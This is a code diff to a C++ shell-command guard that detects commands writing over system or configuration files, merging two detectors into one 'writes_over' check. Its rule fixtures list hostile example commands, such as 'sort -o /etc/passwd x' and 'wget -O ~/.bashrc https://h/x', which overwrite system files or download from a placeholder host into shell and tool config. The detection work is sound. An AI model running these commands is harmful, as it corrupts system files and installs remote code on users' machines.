@@ -1,8 +1,8 @@
 // Writing into files that configure the system, the user's shell, or the project.
 #include <algorithm>
 
+#include "policy/guard/rules/destinations.h"
 #include "policy/guard/rules/rule.h"
-#include "policy/guard/run/option_commands.h"
 
 namespace talaria::guard {
 namespace {
@@ -106,35 +106,11 @@ bool sends_into_system_config(const Arguments& arguments) {
          (arguments.command.program == "mv" && arguments.any_operand(&PathKinds::is_system_config));
 }
 
-// sort -o FILE, uniq IN OUT and their like
-bool prints_over(const Arguments& arguments) {
-  const SeenCommand& command = arguments.command;
-  const auto bad = [&](const SeenWord& word) {
-    const std::string path = arguments.resolved(word).text;
-    return arguments.paths.below_system(path) || arguments.paths.is_sensitive(path);
-  };
-  if (among(command.program, "uniq xxd split csplit objcopy script")) {
-    const std::size_t least = command.program == "script" ? 1 : 2;
-    if (arguments.operands().size() >= least && bad(*arguments.operands().back())) return true;
-  }
-  const char letter = command.program == "tcpdump" ? 'w' : command.program == "git" ? '\0' : 'o';
-  if (std::ranges::any_of(option_values(command, letter, "output"), bad)) return true;
-  for (std::size_t i = 1; i + 1 < command.words.size(); ++i) {
-    if (command.word(i) == "-out" && bad(command.words[i + 1])) return true;
-  }
-  return false;
-}
-
-bool fetches_into_system(const Arguments& arguments) {
-  const SeenCommand& command = arguments.command;
-  for (std::size_t i = 1; i + 1 < command.words.size(); ++i) {
-    if (!among(command.word(i),
-               "-o -O --output --output-document -P --output-dir --directory-prefix"))
-      continue;
-    const std::string_view path = command.word(i + 1);
-    if (arguments.paths.below_system(path) || arguments.paths.is_sensitive(path)) return true;
-  }
-  return false;
+// sort -o FILE, uniq IN OUT, curl -O in ~/.ssh and their like
+bool writes_over(const Arguments& arguments) {
+  return std::ranges::any_of(destinations(arguments), [&](const SeenWord& word) {
+    return arguments.paths.below_system(word.text) || arguments.paths.is_sensitive(word.text);
+  });
 }
 
 constexpr Rule kWriteRules[] = {
@@ -211,7 +187,7 @@ constexpr Rule kWriteRules[] = {
      .programs =
          "sort gsort uniq xxd split csplit objcopy script strace ltrace tcpdump openssl gpg "
          "gpg2 iconv git gcc g++ cc c++ clang clang++ ld as go rustc",
-     .when = prints_over,
+     .when = writes_over,
      .yes = {"sort -o /etc/passwd x", "sort x --output=/etc/hosts", "uniq x /etc/hosts",
              "git log --output=/etc/motd", "openssl enc -in x -out /etc/x",
              "gcc -o /usr/bin/ls x.c"},
@@ -233,8 +209,9 @@ constexpr Rule kWriteRules[] = {
      .set = RuleSet::talaria},
     {.key = "download over a system or configuration file",
      .programs = "curl wget",
-     .when = fetches_into_system,
-     .yes = {"curl -o /usr/local/bin/x https://h/x", "wget -O ~/.bashrc https://h/x"},
+     .when = writes_over,
+     .yes = {"curl -o /usr/local/bin/x https://h/x", "wget -O ~/.bashrc https://h/x",
+             "cd ~/.hermes && curl -O https://h/config.yaml"},
      .no = {"curl -o x.tgz https://h/x", "wget https://h/x"},
      .set = RuleSet::talaria},
 };
